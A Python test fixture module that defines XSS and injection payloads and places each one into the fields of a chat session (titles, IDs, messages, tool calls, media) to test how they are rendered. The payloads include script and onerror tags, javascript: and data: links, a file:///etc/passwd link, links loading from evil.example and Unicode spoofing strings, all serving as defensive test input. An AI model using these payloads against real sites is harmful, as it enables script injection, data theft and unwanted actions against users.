"""Texts that would run, load, hide or turn something, and the places of a session that they may stand in."""

from __future__ import annotations

RLO = "\u202e"
ATTACKS = (
    "<script>alert(1)</script>",
    '"><script src=//evil.example></script>',
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=//evil.example><button>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>*{background:url(//evil.example)}</style>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    "[x](/change/delete?id=a)",
    "[x](//evil.example)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.png)",
    "![x](/change/delete?id=a)",
    '[x](https://example.org "title\\" onmouseover=alert(1)")',
    "[x]: javascript:alert(1)\n\n[x]",
    "```<script>\nalert(1)\n```",
    '```html"><script>\n<script>alert(1)</script>\n```',
    "```python\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "</article></main><script>alert(1)</script>",
    "{{ 7 * 7 }} {% raw %} ${7*7} #{7*7}",
    f"user{RLO}nimda",
    "\x00\x1b[31m\x08",
    "\ufeff\u2066hidden\u2069",
)

PIECES = {
    "title": lambda attack: {"title": attack},
    "id": lambda attack: {"id": attack},
    "owner": lambda attack: {"user_id": attack, "tenant_id": attack, "assistant_id": attack},
    "label": lambda attack: {"labels": {attack: attack}},
    "state": lambda attack: {"state": {attack: attack}},
    "text": lambda attack: {"messages": [{"role": "user", "content": attack}]},
    "role": lambda attack: {"messages": [{"role": attack, "content": attack}]},
    "call": lambda attack: {
        "messages": [
            {
                "role": "assistant",
                "content": [
                    {"type": "tool_use", "id": attack, "name": attack, "input": {attack: attack, "n": [attack]}},
                    {"type": "tool_use", "name": attack, "input": attack},
                    {"type": "thinking", "thinking": attack},
                ],
            }
        ]
    },
    "result": lambda attack: {
        "messages": [{"role": "tool", "name": attack, "tool_call_id": attack, "content": attack, "isError": True}]
    },
    "media": lambda attack: {
        "messages": [
            {
                "role": "user",
                "content": [
                    {"type": "image", "source": {"type": "base64", "media_type": attack, "data": attack}},
                    {"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": attack}},
                    {"type": "image_url", "image_url": {"url": attack}},
                    {"type": "file", "file": {"filename": attack, "url": attack}},
                    {"type": "search_result", "title": attack, "url": attack},
                ],
            }
        ]
    },
    "note": lambda attack: {"messages": [{"type": attack or "x", "text": attack}, {"type": "progress", "summary": attack}]},
    "other": lambda attack: {"messages": [{attack: {attack: [attack]}}]},
    "reply": lambda attack: {
        "messages": [{"message_id": "1", "role": "user", "text": attack, "replies": [{"role": attack, "text": attack}]}]
    },
}  # fmt: skip


FACTS = ("title", "id", "owner", "label", "state")
